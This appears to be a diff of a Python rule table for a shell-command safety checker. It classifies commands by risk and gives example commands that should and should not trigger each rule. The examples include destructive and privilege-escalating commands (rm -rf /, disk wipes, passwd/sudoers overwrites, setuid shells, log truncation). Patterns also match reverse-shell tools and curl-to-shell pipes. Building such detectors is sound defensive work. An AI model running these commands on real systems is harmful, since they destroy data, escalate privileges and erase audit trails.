@@ -1,0 +1,647 @@
+"""The rule table. Each rule is data: id, category, risk, a reason a person understands,
+a small check over a normalised `Cmd`, and examples that must (and must not) trigger it.
+tests/test_safety_rules.py runs every rule's own examples."""
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+from typing import Callable
+
+from . import paths as P
+from .commands import Cmd, find_info
+
+SAFE, MODERATE, HIGH, CRITICAL = "safe", "moderate", "high", "critical"
+RISK_ORDER = {SAFE: 0, MODERATE: 1, HIGH: 2, CRITICAL: 3}
+
+
+@dataclass(frozen=True)
+class Ctx:
+    cwd: str | None = None
+    home: str | None = None
+    shell: str = "bash"
+
+
+@dataclass(frozen=True)
+class Rule:
+    id: str
+    category: str
+    risk: str
+    reason: str                         # "{}" is replaced by what the check returned
+    check: Callable[[Cmd, Ctx], str | None]
+    examples: tuple[str, ...] = ()
+    counterexamples: tuple[str, ...] = ()
+
+
+def _targets(cmd: Cmd, ctx: Ctx, kinds: tuple[str, ...]) -> str | None:
+    for op in cmd.operands:
+        if P.classify(op, ctx.cwd, ctx.home) in kinds:
+            return op
+    return None
+
+
+def _recursive(cmd: Cmd) -> bool:
+    return cmd.has("r", "R", "--recursive")
+
+
+def _writes_to(cmd: Cmd, pred: Callable[[str], bool], append_ok: bool = False) -> str | None:
+    for r in cmd.redirects:
+        if r.op in (">", ">|", "&>", "<>") or (r.op in (">>", "&>>") and not append_ok):
+            if pred(r.target):
+                return r.target
+    if cmd.name == "tee":
+        for op in cmd.operands:
+            if pred(op) and not (append_ok and cmd.has("a", "--append")):
+                return op
+    return None
+
+
+# ---- checks -------------------------------------------------------------------------------
+
+def rm_everything(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name not in ("rm", "rmdir", "unlink", "srm", "trash", "gio") or cmd.name == "gio" and cmd.args[:1] != ["remove"]:
+        return None
+    if cmd.has("--no-preserve-root"):
+        return "/ (with --no-preserve-root)"
+    if cmd.name == "rm" and not _recursive(cmd):
+        return None
+    return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM))
+
+
+def rm_system_files(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "rm":
+        return None
+    return _targets(cmd, ctx, (P.SYSTEM_DEEP,) + (() if _recursive(cmd) else (P.ROOT, P.HOME, P.SYSTEM)))
+
+
+def rm_all_here(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "rm" or not _recursive(cmd):
+        return None
+    return _targets(cmd, ctx, (P.CWD_ALL, P.UNKNOWN_VAR))
+
+
+def rm_recursive(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "rm" or not _recursive(cmd):
+        return None
+    if cmd.from_stdin:
+        return "the paths it is given"
+    ops = [o for o in cmd.operands if P.classify(o, ctx.cwd, ctx.home) == P.OTHER]
+    return " ".join(ops)[:80] if ops else None
+
+
+def find_delete_everywhere(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "find":
+        return None
+    fi = find_info(cmd)
+    if not (fi.deletes or any(e and e[0].rsplit("/", 1)[-1] in ("rm", "shred", "unlink") for e in fi.execs)):
+        return None
+    for r in fi.roots:
+        kind = P.classify(r, ctx.cwd, ctx.home)
+        if kind in (P.ROOT, P.HOME, P.SYSTEM) and not fi.filtered:
+            return r
+    return None
+
+
+def find_delete_wide(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "find":
+        return None
+    fi = find_info(cmd)
+    if not (fi.deletes or any(e and e[0].rsplit("/", 1)[-1] in ("rm", "shred", "unlink") for e in fi.execs)):
+        return None
+    for r in fi.roots:
+        kind = P.classify(r, ctx.cwd, ctx.home)
+        if kind in (P.ROOT, P.HOME, P.SYSTEM, P.SYSTEM_DEEP) and fi.filtered:
+            return r
+        if kind == P.CWD_ALL and not fi.filtered:
+            return r
+    return None
+
+
+def find_delete(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "find" and find_info(cmd).deletes:
+        return "the files it matches"
+    return None
+
+
+def _dd_args(cmd: Cmd) -> dict[str, str]:
+    return dict(a.split("=", 1) for a in cmd.args if "=" in a)
+
+
+def disk_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "dd":
+        a = _dd_args(cmd)
+        if P.is_disk(a.get("of", "")) and a.get("if", "") in ("/dev/zero", "/dev/urandom", "/dev/random", ""):
+            return a.get("of")
+    if cmd.name in ("shred", "scrub") or cmd.name == "wipe":
+        return next((o for o in cmd.operands if P.is_disk(o)), None)
+    if cmd.name == "blkdiscard":
+        return next((o for o in cmd.operands if P.is_disk(o)), None)
+    if cmd.name == "diskutil" and cmd.args[:1] and cmd.args[0].lower() in ("erasedisk", "zerodisk", "secureerase", "randomdisk"):
+        return " ".join(cmd.args[-1:])
+    return _writes_to(cmd, P.is_disk)
+
+
+def disk_write(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "dd":
+        of = _dd_args(cmd).get("of", "")
+        return of if P.is_disk(of) else None
+    if cmd.name.startswith("mkfs") or cmd.name in ("mke2fs", "mkswap", "newfs", "newfs_msdos", "mkdosfs", "mformat"):
+        return next((o for o in cmd.operands if P.is_disk(o)), None)
+    if cmd.name == "wipefs" and (cmd.has("a") or any(a.startswith("--offset") or a == "-o" for a in cmd.args)):
+        return next((o for o in cmd.operands if P.is_disk(o)), "a device")
+    if cmd.name in ("fdisk", "sfdisk", "gdisk", "cfdisk", "sgdisk", "parted") and not (cmd.has("l", "--list", "--print", "--version", "--help") and not cmd.has("w")):
+        if cmd.name == "parted" and (any(a in ("print", "list") for a in cmd.args) or cmd.has("l")):
+            return None
+        return next((o for o in cmd.operands if P.is_disk(o)), None)
+    if cmd.name == "diskutil" and cmd.args[:1] and cmd.args[0].lower() in ("erasevolume", "partitiondisk", "reformat"):
+        return cmd.args[-1]
+    return None
+
+
+def mkfs_file(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name.startswith("mkfs") or cmd.name in ("mke2fs", "mkswap"):
+        ops = [o for o in cmd.operands if not P.is_disk(o) and not re.fullmatch(r"\d+[kKmMgG]?", o)]
+        return ops[-1] if ops else None
+    return None
+
+
+_FORK_FUNC = re.compile(r"^(\S+)\(\)$")
+
+
+def chmod_system(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name not in ("chmod", "chown", "chgrp", "chattr", "setfacl"):
+        return None
+    if not cmd.has("R", "--recursive"):
+        return None
+    return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM))
+
+
+def chmod_wide(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name not in ("chmod", "chown", "chgrp"):
+        return None
+    if cmd.has("R", "--recursive"):
+        t = _targets(cmd, ctx, (P.SYSTEM_DEEP, P.CWD_ALL, P.UNKNOWN_VAR))
+        if t:
+            return t
+        if cmd.name == "chmod" and any(m in ("777", "0777", "a+rwx", "ugo+rwx", "666", "a+w", "o+w") for m in cmd.operands):
+            return _targets(cmd, ctx, (P.OTHER,))
+    return _targets(cmd, ctx, (P.ROOT, P.SYSTEM))
+
+
+_SHELL_BINARIES = re.compile(r"^(/usr)?(/local)?/bin/(ba|z|da|k|fi|c|tc)?sh$|^(/usr)?/bin/(python\d*|perl|env|find|vim?|less)$")
+
+
+def setuid_shell(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "chmod":
+        return None
+    mode = next((o for o in cmd.operands if re.fullmatch(r"[0-7]{4}|[ugoa]*\+[rwxXt]*s[rwxXt]*", o)), None)
+    if not mode or (mode.isdigit() and mode[0] not in "4567"):
+        return None
+    return next((o for o in cmd.operands if _SHELL_BINARIES.match(o)), None)
+
+
+_AUTH_FILES = re.compile(r"^/(private/)?etc/(passwd|shadow|gshadow|group|sudoers|master\.passwd)$|^/etc/sudoers\.d/.*|^/etc/pam\.d/.*")
+_HOSTS_ETC = re.compile(r"^/(private/)?etc/(hosts|fstab|resolv\.conf|ssh/sshd_config|crontab|profile|environment|ld\.so\.preload)$|^/boot/")
+
+
+def overwrite_auth(cmd: Cmd, ctx: Ctx) -> str | None:
+    t = _writes_to(cmd, lambda p: bool(_AUTH_FILES.match(P.normalise(p))))
+    if t:
+        return t
+    if cmd.name in ("rm", "mv", "truncate", "shred") or (cmd.name in ("cp", "ln", "install") and cmd.operands):
+        pool = cmd.operands if cmd.name in ("rm", "truncate", "shred", "mv") else cmd.operands[-1:]
+        return next((o for o in pool if _AUTH_FILES.match(P.normalise(o))), None)
+    return None
+
+
+def overwrite_system_config(cmd: Cmd, ctx: Ctx) -> str | None:
+    t = _writes_to(cmd, lambda p: bool(_HOSTS_ETC.match(P.normalise(p)) or _AUTH_FILES.match(P.normalise(p))), append_ok=False)
+    if t:
+        return t
+    for r in cmd.redirects:
+        if r.op in (">>", "&>>") and _AUTH_FILES.match(P.normalise(r.target)):
+            return r.target
+    if cmd.name == "tee" and cmd.has("a", "--append"):
+        return next((o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o))), None)
+    if cmd.name == "sed" and cmd.has("i", "--in-place"):
+        return next((o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o)) or _HOSTS_ETC.match(P.normalise(o))), None)
+    return None
+
+
+def _is_log(p: str) -> bool:
+    p = P.normalise(p)
+    return p.startswith(("/var/log/", "/private/var/log/")) or p in ("/var/log", "~/.bash_history", "~/.zsh_history", "$HISTFILE")
+
+
+def truncate_logs(cmd: Cmd, ctx: Ctx) -> str | None:
+    t = _writes_to(cmd, _is_log)
+    if t:
+        return t
+    if cmd.name in ("truncate", "shred", "rm") or cmd.name == "journalctl" and cmd.has("--vacuum-time", "--vacuum-size", "--rotate"):
+        if cmd.name == "journalctl":
+            return "the system journal"
+        return next((o for o in cmd.operands if _is_log(o)), None)
+    return None
+
+
+def move_system(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "mv" or len(cmd.operands) < 2:
+        return None
+    src = [o for o in cmd.operands[:-1] if P.classify(o, ctx.cwd, ctx.home) in (P.ROOT, P.HOME, P.SYSTEM)]
+    if src:
+        return src[0]
+    return None
+
+
+def move_to_null(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "mv" and cmd.operands and cmd.operands[-1] == "/dev/null":
+        return " ".join(cmd.operands[:-1])
+    return None
+
+
+_FETCHERS = frozenset("curl wget fetch http https xh aria2c lwp-request GET iwr irm Invoke-WebRequest Invoke-RestMethod".split())
+_RUNNERS = frozenset("sh bash zsh dash ksh fish python python3 perl ruby node php sudo iex Invoke-Expression source .".split())
+
+
+def pipe_to_shell(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in _RUNNERS and any(p in _FETCHERS for p in cmd.pipe_before):
+        if cmd.name == "sudo" or not cmd.operands or cmd.operands[0] in ("-", "/dev/stdin") or cmd.has("s"):
+            fetch = next(p for p in cmd.pipe_before if p in _FETCHERS)
+            return f"{fetch} … | {cmd.name}"
+    return None
+
+
+def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") and (cmd.has("e", "c") or any(a.startswith("--exec") or a.startswith("--sh-exec") for a in cmd.args)):
+        return cmd.name + " -e"
+    if cmd.name == "socat" and any(re.search(r"(?i)exec:|system:", a) for a in cmd.args):
+        return "socat exec:"
+    for r in cmd.redirects:
+        if r.target.startswith(("/dev/tcp/", "/dev/udp/")):
+            return r.target
+    if any(a.startswith(("/dev/tcp/", "/dev/udp/")) for a in cmd.args):
+        return next(a for a in cmd.args if a.startswith(("/dev/tcp/", "/dev/udp/")))
+    return None
+
+
+def kill_everything(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "killall5":
+        return "every process"
+    if cmd.name in ("kill", "pkill") and cmd.name == "kill":
+        if any(o in ("1", "-1") for o in cmd.operands) or "-1" in cmd.args[-1:]:
+            return "PID 1" if "1" in cmd.operands else "every process you can signal (-1)"
+        if any(re.fullmatch(r"-\d+|-[A-Z]+", a) for a in cmd.args) and cmd.args[-1:] == ["-1"]:
+            return "every process"
+    if cmd.name in ("pkill", "killall") and any(o in ("init", "systemd", "launchd", "sshd", "-1") for o in cmd.operands):
+        return next(o for o in cmd.operands if o in ("init", "systemd", "launchd", "sshd", "-1"))
+    return None
+
+
+def sysrq(cmd: Cmd, ctx: Ctx) -> str | None:
+    t = _writes_to(cmd, lambda p: p in ("/proc/sysrq-trigger",), append_ok=False)
+    if t:
+        return t
+    for r in cmd.redirects:
+        if r.target in ("/proc/sysrq-trigger",):
+            return r.target
+    if cmd.name == "tee" and "/proc/sysrq-trigger" in cmd.operands:
+        return "/proc/sysrq-trigger"
+    return None
+
+
+def power(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("shutdown", "reboot", "halt", "poweroff"):
+        return cmd.name
+    if cmd.name in ("init", "telinit") and cmd.operands[:1] in (["0"], ["6"]):
+        return f"{cmd.name} {cmd.operands[0]}"
+    if cmd.name in ("systemctl", "loginctl") and any(a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate") for a in cmd.operands):
+        return "systemctl " + next(a for a in cmd.operands if a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate"))
+    if cmd.name in ("Stop-Computer", "Restart-Computer"):
+        return cmd.name
+    return None
+
+
+def firewall_off(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("iptables", "ip6tables", "iptables-legacy", "iptables-nft") and (cmd.has("F", "X", "--flush") or ("P" in cmd.flags and "ACCEPT" in cmd.args)):
+        return cmd.name + " " + " ".join(cmd.args)
+    if cmd.name == "ufw" and cmd.operands[:1] in (["disable"], ["reset"]):
+        return "ufw " + cmd.operands[0]
+    if cmd.name == "nft" and cmd.operands[:2] in (["flush", "ruleset"],):
+        return "nft flush ruleset"
+    if cmd.name == "pfctl" and cmd.has("d", "F"):
+        return "pfctl " + " ".join(cmd.args)
+    if cmd.name in ("systemctl", "service") and any(a in ("stop", "disable", "mask") for a in cmd.operands) and any(re.match(r"(firewalld|ufw|iptables|nftables)", a) for a in cmd.operands):
+        return "the firewall service"
+    if cmd.name == "netsh" and "off" in [a.lower() for a in cmd.args]:
+        return "Windows firewall"
+    return None
+
+
+def history_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "history" and cmd.has("c", "w") and "c" in cmd.flags:
+        return "history -c"
+    if cmd.name == "crontab" and cmd.has("r"):
+        return "crontab -r"
+    if cmd.name == "unset" and "HISTFILE" in cmd.args:
+        return "unset HISTFILE"
+    return None
+
+
+def git_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "git":
+        return None
+    # skip global options like -C dir
+    args = cmd.args
+    i = 0
+    while i < len(args) and args[i].startswith("-"):
+        i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree") else 1
+    sub = args[i] if i < len(args) else ""
+    rest = args[i + 1:]
+    if sub == "push" and any(a in ("-f", "--force", "--mirror", "--delete", "-d") or (a.startswith("+") and len(a) > 1) or re.fullmatch(r"-[a-zA-Z]*f[a-zA-Z]*", a) for a in rest):
+        return "git push --force" if "--delete" not in rest and "-d" not in rest else "git push --delete"
+    if sub == "reset" and "--hard" in rest:
+        return "git reset --hard"
+    if sub == "clean" and any(re.fullmatch(r"-[a-zA-Z]*f[a-zA-Z]*", a) or a == "--force" for a in rest):
+        return "git clean " + " ".join(rest)
+    if sub in ("checkout", "restore") and ("--" in rest and "." in rest or rest[:1] == ["."] or "-f" in rest):
+        return f"git {sub} ."
+    if sub == "filter-branch" or sub == "filter-repo":
+        return "git " + sub
+    if sub == "reflog" and rest[:1] == ["expire"] and any("now" in a or "all" in a for a in rest):
+        return "git reflog expire"
+    if sub == "stash" and rest[:1] in (["clear"], ["drop"]):
+        return "git stash " + rest[0]
+    if sub == "branch" and any(a in ("-D",) for a in rest):
+        return "git branch -D"
+    return None
+
+
+def container_mass_delete(cmd: Cmd, ctx: Ctx) -> str | None:
+    a = cmd.args
+    if cmd.name in ("docker", "podman", "nerdctl"):
+        if a[:2] in (["system", "prune"], ["volume", "prune"], ["image", "prune"], ["container", "prune"], ["network", "prune"], ["builder", "prune"]) and cmd.has("a", "f", "--all", "--volumes", "--force"):
+            return f"{cmd.name} {a[0]} prune"
+        if (a[:2] == ["compose", "down"] and cmd.has("v", "--volumes")):
+            return f"{cmd.name} compose down --volumes"
+        if a[:1] in (["rm"], ["rmi"], ["kill"]) or a[:2] in (["container", "rm"], ["image", "rm"], ["volume", "rm"]):
+            if any(s for s in a if "…" in s) or any(x in ("$(docker", "-aq", "-q") for x in a):
+                return f"{cmd.name} {a[0]} $(…)"
+    if cmd.name in ("docker-compose", "podman-compose") and a[:1] == ["down"] and cmd.has("v", "--volumes"):
+        return f"{cmd.name} down --volumes"
+    if cmd.name in ("kubectl", "oc", "helm", "k"):
+        if "delete" in a and (any(x in ("--all", "-A", "--all-namespaces") for x in a) or any(x in ("namespace", "ns", "namespaces", "node", "nodes", "pv", "crd") for x in a)):
+            return "kubectl delete " + " ".join(x for x in a if x != "delete")[:60]
+    return None
+
+
+_SQL_DANGER = re.compile(r"(?i)\b(drop\s+(database|schema|table)|truncate\s+(table\s+)?\w|delete\s+from\s+\w+\s*(;|$)|flushall|flushdb|dropDatabase\(\))")
+
+
+def sql_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("mysql", "mariadb", "psql", "sqlite3", "sqlcmd", "clickhouse-client", "cqlsh", "mongo", "mongosh", "redis-cli", "duckdb", "cockroach", "snowsql", "bq"):
+        text = " ".join(cmd.args) + " " + (cmd.heredoc or "")
+        m = _SQL_DANGER.search(text)
+        if m:
+            return m.group(0).strip().rstrip(";")
+    if cmd.name in ("dropdb", "mysqladmin") and (cmd.name == "dropdb" or "drop" in cmd.args):
+        return cmd.name
+    return None
+
+
+def selinux_off(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name == "setenforce" and cmd.operands[:1] in (["0"], ["Permissive"], ["permissive"]):
+        return "setenforce 0"
+    if cmd.name == "csrutil" and "disable" in cmd.args:
+        return "csrutil disable"
+    if cmd.name == "spctl" and any(a in ("--master-disable", "--global-disable") for a in cmd.args):
+        return "spctl --master-disable"
+    if cmd.name == "xattr" and cmd.has("c", "r", "d") and "r" in cmd.flags:
+        return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM))
+    return None
+
+
+def windows_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
+    if ctx.shell not in ("powershell", "pwsh", "cmd"):
+        return None
+    low = [a.lower() for a in cmd.args]
+    name = cmd.name.lower()
+    drive = re.compile(r"^[a-z]:\\?(\\\*|\*)?$")
+    if name == "format" and any(re.fullmatch(r"[a-z]:", a) for a in low):
+        return "format " + next(a for a in low if re.fullmatch(r"[a-z]:", a)).upper()
+    if name in ("del", "erase", "rd", "rmdir") and any(a in ("/s",) for a in low) and any(drive.match(a) or a in ("\\", "%systemroot%", "%userprofile%") for a in low):
+        return " ".join(cmd.args)
+    if name in ("remove-item", "rm", "ri", "del") and any(a in ("-recurse", "-r") for a in low) and any(drive.match(a) or a.startswith(("c:\\windows", "$env:userprofile", "~")) for a in low):
+        return " ".join(cmd.args)
+    if name in ("format-volume", "clear-disk", "initialize-disk"):
+        return cmd.name
+    if name == "diskpart":
+        return "diskpart"
+    return None
+
+
+def cloud_destroy(cmd: Cmd, ctx: Ctx) -> str | None:
+    a = cmd.args
+    if cmd.name == "terraform" and a[:1] == ["destroy"]:
+        return "terraform destroy"
+    if cmd.name == "aws" and "s3" in a[:1] and "rm" in a and "--recursive" in a:
+        return "aws s3 rm --recursive"
+    if cmd.name == "aws" and "s3" in a[:1] and "rb" in a and "--force" in a:
+        return "aws s3 rb --force"
+    if cmd.name in ("gsutil",) and ("rm" in a and "-r" in a):
+        return "gsutil rm -r"
+    return None
+
+
+_REMOTE_CLIS = frozenset("""aws gcloud az gh glab heroku vercel netlify fly flyctl doctl linode-cli hcloud oci ibmcloud
+firebase supabase helm vault op kafka-topics kafka-configs rabbitmqctl nats rclone velero restic borg circleci
+gitlab-runner npm yarn pnpm cargo s3cmd mc consul etcdctl nomad pulumi serverless sls eksctl virsh vagrant
+multipass lxc zfs zpool btrfs vgremove lvremove pvremove gsutil bq redis-cli jenkins-cli wrangler railway
+render stripe twilio okta auth0 databricks snowsql openstack swift""".split())
+_DESTROY_VERB = re.compile(r"^(delete|destroy|remove|rm|rb|purge|prune|terminate|uninstall|unregister|unpublish|deprecate|yank|"
+                           r"forget|undefine|drop|wipe|erase|flush|revoke|rmdir|delete[-_][\w-]+|destroy[-_][\w-]+|terminate[-_][\w-]+|"
+                           r"remove[-_][\w-]+|deregister[-_][\w-]+|[\w-]+:(delete|destroy|remove|rm|unset|destroy)|(secret|env|config):unset)$")
+
+
+def remote_delete(cmd: Cmd, ctx: Ctx) -> str | None:
+    name = cmd.name
+    if name == "java" and any(a.endswith("jenkins-cli.jar") for a in cmd.args):
+        name = "jenkins-cli"
+    if name in ("vgremove", "lvremove", "pvremove"):
+        return name + " " + " ".join(cmd.operands)
+    if name not in _REMOTE_CLIS:
+        return None
+    verb = next((o for o in cmd.operands[:4] if _DESTROY_VERB.match(o.lower())), None)
+    if verb is None:
+        return None
+    return f"{name} … {verb}"
+
+
+def http_delete(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("curl", "http", "https", "xh", "wget"):
+        for k, a in enumerate(cmd.args):
+            if a in ("-X", "--request", "--method") and k + 1 < len(cmd.args) and cmd.args[k + 1].upper() == "DELETE":
+                return next((o for o in cmd.operands if "://" in o or o.startswith(("localhost", "http"))), "a URL")
+            if a.upper() in ("-XDELETE", "--REQUEST=DELETE", "DELETE") and cmd.name in ("curl", "http", "https", "xh", "wget"):
+                return next((o for o in cmd.operands if "://" in o), "a URL")
+    return None
+
+
+def sync_delete(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("rsync", "rclone") and any(a.startswith("--delete") for a in cmd.args):
+        return cmd.operands[-1] if cmd.operands else "the destination"
+    if cmd.name == "rclone" and cmd.operands[:1] in (["purge"], ["sync"]):
+        return cmd.operands[-1]
+    return None
+
+
+def network_down(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("ifconfig",) and "down" in cmd.operands:
+        return "ifconfig … down"
+    if cmd.name in ("ip",) and "link" in cmd.operands and "down" in cmd.operands:
+        return "ip link … down"
+    if cmd.name in ("ifdown", "nmcli") and (cmd.name == "ifdown" or "off" in cmd.operands or "down" in cmd.operands):
+        return cmd.name
+    if cmd.name in ("systemctl", "service") and any(a in ("stop", "disable", "mask") for a in cmd.operands) and any(re.match(r"(NetworkManager|networking|network|systemd-networkd|sshd?|wpa_supplicant)(\.service)?$", a) for a in cmd.operands):
+        return "the network or SSH service"
+    return None
+
+
+def user_delete(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("userdel", "deluser") and cmd.operands:
+        return cmd.operands[-1]
+    if cmd.name == "passwd" and cmd.has("d", "l") and cmd.operands[:1] == ["root"]:
+        return "the root password"
+    return None
+
+
+def runs_as_root(cmd: Cmd, ctx: Ctx) -> str | None:
+    return next((v for v in cmd.via if v in ("sudo", "doas", "runuser")), None)
+
+
+def kill_pid(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name in ("kill", "pkill", "killall") and (cmd.has("9", "KILL") or "-SIGKILL" in cmd.args or "SIGKILL" in cmd.args):
+        return " ".join(cmd.operands) or "processes"
+    return None
+
+
+def overwrite_dotfile(cmd: Cmd, ctx: Ctx) -> str | None:
+    def dot(p: str) -> bool:
+        return bool(re.fullmatch(r"(~|\$HOME|\$\{HOME\})/\.(bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/id_\w+|ssh/config|gitconfig)", P.normalise(p)))
+    t = _writes_to(cmd, dot, append_ok=True)
+    if t:
+        return t
+    if cmd.name in ("rm", "shred") or (cmd.name == "mv" and cmd.operands):
+        return next((o for o in (cmd.operands if cmd.name != "mv" else cmd.operands[:-1]) if dot(o)), None)
+    return None
+
+
+def package_remove_core(cmd: Cmd, ctx: Ctx) -> str | None:
+    core = {"libc6", "glibc", "bash", "coreutils", "systemd", "sudo", "apt", "dpkg", "rpm", "yum", "dnf", "python3", "openssh-server", "linux-image", "grub", "grub2", "kernel", "util-linux", "login", "passwd"}
+    if cmd.name in ("apt", "apt-get", "yum", "dnf", "zypper", "pacman", "apk", "dpkg", "rpm") and any(a in ("remove", "purge", "erase", "autoremove", "del", "-R", "-Rns", "-Rs", "-e", "-P", "-r") for a in cmd.args):
+        return next((o for o in cmd.operands if o in core or o.startswith("linux-image")), None)
+    return None
+
+
+RULES: tuple[Rule, ...] = (
+    Rule("rm-root-home-system", "delete", CRITICAL, "deletes {} and everything under it: the system or your home would be destroyed",
+         rm_everything,
+         ("rm -rf /", "rm -rf /*", "rm -rf ~", "rm -rf $HOME", 'rm -rf "$HOME/"', "rm --recursive --force /", "rm -r -f /usr",
+          "rm -rf /etc", "rm -rf --no-preserve-root /", "rm -fr ~/", "rm -Rf /home", "rm -rf /.."),
+         ("rm -rf /tmp/cache", "rm -rf ./target", "rm -rf node_modules", "rm ~/notes.txt", "rm -rf ~/project/build")),
+    Rule("rm-system-files", "delete", HIGH, "deletes {}, which belongs to the operating system", rm_system_files,
+         ("rm -rf /usr/lib/python3", "rm /etc/nginx/nginx.conf", "rm -rf /var/lib/dpkg"),
+         ("rm -rf /tmp/x", "rm build.log", "rm -rf /var/tmp/cache")),
+    Rule("rm-everything-here", "delete", HIGH, "deletes {}: everything in the current directory (or an unset variable would make it /)",
+         rm_all_here, ("rm -rf *", "rm -rf .", "rm -rf ./*", 'rm -rf "$DIR"/*', "rm -rf $BUILD/", "rm -rf .."),
+         ("rm -rf ./target", "rm *.log", "rm -rf $BUILD/out")),
+    Rule("rm-recursive", "delete", MODERATE, "permanently deletes {} and everything in it", rm_recursive,
+         ("rm -rf ./target", "rm -rf node_modules", "rm -r build"), ("rm file.txt", "rmdir empty")),
+    Rule("find-delete-everything", "delete", CRITICAL, "find deletes every file under {}", find_delete_everywhere,
+         ("find / -delete", "find ~ -delete", "find / -exec rm -rf {} \\;", "find /etc -delete"),
+         ("find . -name '*.pyc' -delete", "find / -name core")),
+    Rule("find-delete-wide", "delete", HIGH, "find deletes matching files across {}", find_delete_wide,
+         ("find / -name '*.log' -delete", "find . -delete", "find ~ -type f -name '*.tmp' -exec rm {} +"),
+         ("find . -name '*.pyc' -delete", "find /tmp -mtime +7 -delete")),
+    Rule("find-delete", "delete", MODERATE, "find deletes {}", find_delete, ("find . -name '*.pyc' -delete",), ("find . -name x",)),
+    Rule("disk-wipe", "disk", CRITICAL, "erases the disk {}: all data on it is lost", disk_wipe,
+         ("dd if=/dev/zero of=/dev/sda", "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "cat /dev/urandom > /dev/sda",
+          "shred -n 3 /dev/sdb", "echo x > /dev/disk2", "diskutil eraseDisk JHFS+ X disk2"),
+         ("dd if=/dev/zero of=disk.img bs=1M count=10", "echo hi > /dev/null", "ls /dev/sda*")),
+    Rule("disk-write", "disk", HIGH, "writes directly to the device {}: whatever is on it is replaced", disk_write,
+         ("dd if=ubuntu.iso of=/dev/sdb bs=4M", "mkfs.vfat /dev/sdc1", "mkfs.ext4 /dev/nvme0n1p2", "wipefs -a /dev/sdb",
+          "fdisk /dev/sda", "parted /dev/sdb mklabel gpt", "dd if=x.img of=/dev/disk2"),
+         ("mkfs.vfat disk.img", "fdisk -l", "parted -l", "dd if=/dev/sda of=backup.img")),
+    Rule("mkfs-image", "disk", MODERATE, "formats {} (an image file): its current contents are replaced", mkfs_file,
+         ("mkfs.vfat disk.img", "mkfs.ext4 -F fs.img"), ("mkfs.vfat /dev/sdc1",)),
+    Rule("chmod-system", "permissions", CRITICAL, "changes ownership or permissions of everything under {}: the system or your home may stop working",
+         chmod_system, ("chmod -R 777 /", "chown -R nobody /", "chmod -R 000 ~", "chmod --recursive 755 /usr", "chown -R me:me /etc"),
+         ("chmod 755 deploy.sh", "chmod -R 755 ./public", "chown -R me ./app")),
+    Rule("chmod-wide", "permissions", HIGH, "changes permissions of {} broadly (system files or world-writable)", chmod_wide,
+         ("chmod 777 /", "chmod -R 777 .", "chmod 777 /etc", "chmod -R 777 uploads", "chown root /usr"),
+         ("chmod +x run.sh", "chmod 644 notes.txt", "chmod -R 755 ./public")),
+    Rule("setuid-shell", "permissions", CRITICAL, "makes {} setuid: anyone could get a root shell", setuid_shell,
+         ("chmod u+s /bin/bash", "chmod 4755 /bin/sh", "chmod +s /usr/bin/python3"), ("chmod u+x /bin/mytool", "chmod 755 /bin/sh")),
+    Rule("overwrite-auth", "system-config", CRITICAL, "overwrites or deletes {}: logins and sudo would break", overwrite_auth,
+         ("echo root::0:0::: > /etc/passwd", "cat x > /etc/shadow", "rm /etc/sudoers", "cp evil /etc/passwd", "echo x | tee /etc/sudoers"),
+         ("cat /etc/passwd", "grep root /etc/passwd", "cp /etc/passwd ./passwd.bak")),
+    Rule("edit-system-config", "system-config", HIGH, "changes {}, a file the system depends on", overwrite_system_config,
+         ("echo 1.2.3.4 x > /etc/hosts", "echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "sed -i s/a/b/ /etc/fstab", "echo x | tee -a /etc/sudoers"),
+         ("cat /etc/hosts", "echo x >> notes.txt")),
+    Rule("truncate-logs", "anti-forensics", HIGH, "empties or deletes the log {}", truncate_logs,
+         ("> /var/log/syslog", "truncate -s 0 /var/log/auth.log", "cat /dev/null > /var/log/messages", "rm -rf /var/log/nginx", "journalctl --vacuum-time=1s"),
